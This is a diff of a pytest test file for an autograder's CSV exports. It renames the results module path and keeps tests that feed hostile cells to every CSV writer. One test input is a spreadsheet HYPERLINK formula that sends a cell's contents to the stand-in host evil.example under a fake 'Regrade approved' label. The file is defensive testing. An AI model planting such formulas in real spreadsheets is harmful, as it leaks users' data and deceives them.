@@ -16,7 +16,7 @@ from pathlib import Path
 
 import pytest
 
-from autograder.engine.results import GradesCsv, csv_writer, feed_results, spreadsheet_cell, write_result
+from autograder.grading.results import GradesCsv, csv_writer, feed_results, spreadsheet_cell, write_result
 
 PACKAGE = Path(__file__).resolve().parents[2] / "autograder"
 HOSTILE = ['=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&C2,"Regrade approved")',
@@ -160,7 +160,7 @@ def test_similarity_pairs_csv(tmp_path):
 
 # Each module that writes a CSV, and the test above that feeds it hostile cells.
 WRITERS = {
-    "engine/results.py": test_grades_csv,
+    "grading/results.py": test_grades_csv,
     "integrations/lms.py": test_every_export_format,
     "report/html.py": test_items_csv_of_the_report,
     "integrations/similarity.py": test_similarity_pairs_csv,
@@ -194,7 +194,7 @@ def test_every_csv_writer_of_the_package_is_covered():
         if "csv_writer" in calls:
             users.add(name)
     # the one raw csv.writer is the neutralising writer itself
-    assert raw == {"engine/results.py": ["csv.writer"]}, raw
+    assert raw == {"grading/results.py": ["csv.writer"]}, raw
     assert users == set(WRITERS), "a module writes CSV without a test here (add it to WRITERS)"
     # nor is a CSV written by hand (a ".csv" file opened for writing, or its text written, elsewhere)
     handwritten = [p.relative_to(PACKAGE).as_posix() for p in PACKAGE.rglob("*.py")
